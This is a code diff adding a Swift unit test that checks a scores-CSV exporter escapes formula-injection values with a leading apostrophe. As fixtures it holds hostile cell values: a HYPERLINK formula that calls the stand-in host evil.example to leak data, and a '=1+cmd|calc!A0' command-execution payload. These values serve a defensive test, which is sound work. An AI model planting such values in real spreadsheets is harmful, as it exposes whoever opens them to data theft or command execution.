@@ -125,4 +125,36 @@ struct ScoresCSVTests {
         let back = try ScoresCSV.moderatedValues(text: ScoresCSV.write(moderated: moderated, panel: Self.panel), file: "m2.csv", panel: Self.panel)
         #expect(Set(back) == Set(moderated))
     }
+
+    /// A cell a spreadsheet would run as a formula is written as text; the
+    /// values, ids and numbers are untouched, so the totals read back the same.
+    @Test func aCellASpreadsheetWouldRunIsWrittenAsText() throws {
+        var panel = Self.panel
+        panel.bids[0].bidder = "=HYPERLINK(\"http://evil.example/?leak\",\"Kingsmead\")"
+        let text = try String(contentsOf: ExamplePanels.folder.appendingPathComponent("youth-services-scores.csv"), encoding: .utf8)
+        var values = try ScoresCSV.memberValues(text: text, file: "s.csv", panel: panel)
+        let hostile = ["=1+cmd|calc!A0", "+SUM(A1:A9)", "-2+3", "@IMPORTXML(x)", "\tindented", "-", "-1.5", "@"]
+        for index in hostile.indices { values[index].comment = hostile[index] }
+        let written = ScoresCSV.write(memberValues: values, panel: panel)
+        let again = try ScoresCSV.memberValues(text: written, file: "again.csv", panel: panel)
+        // Only the comments that would run changed, by a leading apostrophe.
+        for index in hostile.indices {
+            let expected = ["-1.5"].contains(hostile[index]) || hostile[index] == "-" ? hostile[index] : "'" + hostile[index]
+            #expect(again.first { $0.slot == values[index].slot && $0.member == values[index].member }?.comment
+                        .trimmingCharacters(in: .whitespaces) == expected.trimmingCharacters(in: .whitespaces), "\(hostile[index])")
+        }
+        #expect(Set(again.map { [$0.slot.bid, $0.slot.criterion, $0.member, "\($0.value)"] })
+                    == Set(values.map { [$0.slot.bid, $0.slot.criterion, $0.member, "\($0.value)"] }))
+        func sheet(_ values: [MemberValue]) -> ScoreSheet {
+            var sheet = ScoreSheet()
+            for value in values { sheet.record(value) }
+            return sheet
+        }
+        #expect(ScoringEngine.score(panel, sheet(again)) == ScoringEngine.score(panel, sheet(values)))
+
+        let result = ScoringEngine.score(panel, sheet(values))
+        let csv = ResultCSV.render(result, panel: panel)
+        #expect(csv.contains("\"'=HYPERLINK(\"\"http://evil.example/?leak\"\",\"\"Kingsmead\"\")\""), "\(csv)")
+        #expect(!csv.split(separator: "\n").contains { $0.split(separator: ",").contains { $0.hasPrefix("=") } })
+    }
 }
